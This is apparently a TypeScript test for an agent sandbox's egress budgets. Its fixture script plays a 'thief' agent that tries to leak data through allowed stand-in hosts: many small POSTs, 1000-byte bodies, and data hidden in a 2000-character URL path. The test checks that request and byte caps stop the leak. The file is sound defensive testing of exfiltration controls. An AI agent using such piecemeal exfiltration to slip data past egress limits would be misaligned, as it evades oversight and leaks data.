/** An allowed host as a way out, in many small pieces: its requests and bytes are budgets, too. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { attackerPrelude, eventually, printed, startMesh, type MeshFixture } from "../../fleet/running-mesh.ts";
import { startOutside, type Outside } from "../../fleet/web-place.ts";

let outside: Outside;
let mesh: MeshFixture | undefined;
const arrived = { few: 0, narrow: 0, free: 0, bytes: 0 };

const attack = (port: number): string => `
import { raw, ask, tell } from "./prelude.mjs";
const send = (host, body, path = "/") => raw("POST http://" + host + ":${port}" + path + " HTTP/1.1\\r\\nHost: " + host + ":${port}\\r\\nConnection: close\\r\\nContent-Length: " + body.length + "\\r\\n\\r\\n" + body, 3000).then((text) => ({ status: Number(text.split(" ")[1] ?? 0), text: text.slice(0, 600) }));
const few = [], narrow = [];
for (let i = 0; i < 9; i++) few.push(await send("few.test", "piece " + i));
for (let i = 0; i < 9; i++) narrow.push(await send("narrow.test", "x".repeat(1000)));
const inThePath = await send("narrow.test", "", "/" + "y".repeat(2000));
const free = await send("free.test", "still at work");
tell("end", { few, narrow, inThePath, free, self: (await ask("GET", "/v1/self")).status });
setInterval(() => {}, 1000);
`;

before(async () => {
  outside = await startOutside((request, response) => {
    const name = (request.headers.host ?? "").split(".")[0] as "few" | "narrow" | "free";
    arrived[name]++;
    if (name === "narrow") request.on("data", (piece: Buffer) => (arrived.bytes += piece.length));
    request.resume().on("end", () => response.end("ok"));
  });
  const rule = (name: string): string => `{ to: "http://${name}.test:${outside.port}", address: 127.0.0.1 }`;
  mesh = await startMesh({
    "cordon.yaml": `
version: 1
fleet: slow
agents:
  thief:
    model: rehearsal/echo
    command: [/bin/node, /code/attack.mjs]
    code: code
    budget: { to: { few.test: { hour: { requests: 3 } }, narrow.test: { day: { bytes: 4KiB } } } }
    may: { reach: [${["few", "narrow", "free"].map(rule).join(", ")}] }
`,
    "code/prelude.mjs": attackerPrelude,
    "code/attack.mjs": attack(outside.port),
  });
});

after(async () => {
  await mesh?.stop();
  await outside.close();
});

interface Told {
  readonly status: number;
  readonly text: string;
}

test("so many requests and so many bytes get out, and no more; the agent goes on with other work", async () => {
  const end = (await eventually(
    "the end",
    async () => (mesh ? (await printed(mesh, "thief", "end")).at(-1) : undefined),
    60_000,
  )) as unknown as {
    readonly few: readonly Told[];
    readonly narrow: readonly Told[];
    readonly inThePath: Told;
    readonly free: Told;
    readonly self: number;
  };
  assert.deepEqual(
    end.few.map(({ status }) => status),
    [200, 200, 200, 402, 402, 402, 402, 402, 402],
  );
  assert.equal(arrived.few, 3);
  assert.match(end.few[3]?.text ?? "", /budget_exhausted[^]*few\.test/);
  assert.ok(arrived.bytes > 0 && arrived.bytes <= 4_096, `${arrived.bytes} bytes`);
  assert.ok(end.narrow.some(({ status }) => status === 402));
  assert.equal(end.inThePath.status, 402, "what stands in a path is sent, too");
  assert.deepEqual([end.free.status, arrived.free, end.self], [200, 1, 200]);
});
